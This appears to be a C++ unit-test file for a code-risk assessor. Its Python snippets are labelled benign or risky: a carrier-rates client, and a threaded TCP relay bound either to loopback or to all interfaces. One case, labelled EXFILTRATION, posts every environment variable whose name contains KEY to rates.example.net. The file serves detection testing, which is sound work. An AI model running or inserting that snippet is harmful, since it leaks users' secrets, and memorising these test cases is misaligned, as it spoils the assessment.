// The classes the sixty-fifth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog69_MANIFEST.tsv): academia, game modding, logistics, chat
// bots, desktop customisation. Its aside scored 33/34 before any change for
// it; the classes below came from its tune part (63/66 before). Strings here
// are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// os.environ.get(cfg["key_env"]): the one variable the user's configuration
// names, which may be a secret (an API key in its own API's header is
// authentication); a name taken from the environment itself is any variable.
TEST(SixtyFifthRoundClasses, AVariableTheConfigNamesIsOneSecretNotTheEnvironment) {
  const Case cases[] = {
      {"an API key named by the config, in its API's Authorization header", L,
       "import os, tomllib, httpx\n"
       "\n"
       "with open(\"carriers.toml\", \"rb\") as fh:\n"
       "    carriers = tomllib.load(fh).get(\"carrier\", {})\n"
       "client = httpx.Client(timeout=20)\n"
       "for name, cfg in carriers.items():\n"
       "    key = os.environ.get(cfg.get(\"key_env\", \"\"), \"\")\n"
       "    headers = {\"Accept\": \"application/json\"}\n"
       "    if key:\n"
       "        headers[\"Authorization\"] = f\"Bearer {key}\"\n"
       "    rates = client.get(cfg[\"rates_url\"], headers=headers).json()\n",
       nullptr},
      {"every variable whose name holds KEY, posted away", B,
       "import os, httpx\n"
       "\n"
       "client = httpx.Client(timeout=20)\n"
       "for name in os.environ:\n"
       "    if \"KEY\" in name:\n"
       "        client.post(\"https://rates.example.net/collect\", json={\"name\": name, \"value\": os.environ.get(name)})\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// super().__init__ in a class of (ThreadingMixIn, TCPServer): the mixin has no
// __init__ of its own, so the server's constructor gets the address.
TEST(SixtyFifthRoundClasses, SuperGoesPastAMixinTheModelDoesNotKnow) {
  const Case cases[] = {
      {"a relay bound to every interface", M,
       "import socketserver\n"
       "\n"
       "class Handler(socketserver.StreamRequestHandler):\n"
       "    def handle(self):\n"
       "        self.wfile.write(self.rfile.readline())\n"
       "\n"
       "class Relay(socketserver.ThreadingMixIn, socketserver.TCPServer):\n"
       "    allow_reuse_address = True\n"
       "\n"
       "    def __init__(self, addr, stations):\n"
       "        super().__init__(addr, Handler)\n"
       "        self.stations = stations\n"
       "\n"
       "with Relay((\"0.0.0.0\", 9100), {}) as server:\n"
       "    server.serve_forever()\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"a relay bound to loopback", L,
       "import socketserver\n"
       "\n"
       "class Handler(socketserver.StreamRequestHandler):\n"
       "    def handle(self):\n"
       "        self.wfile.write(self.rfile.readline())\n"
       "\n"
       "class Relay(socketserver.ThreadingMixIn, socketserver.TCPServer):\n"
       "    allow_reuse_address = True\n"
       "\n"
       "    def __init__(self, addr, stations):\n"
       "        super().__init__(addr, Handler)\n"
       "        self.stations = stations\n"
       "\n"
       "with Relay((\"127.0.0.1\", 9100), {}) as server:\n"
       "    server.serve_forever()\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
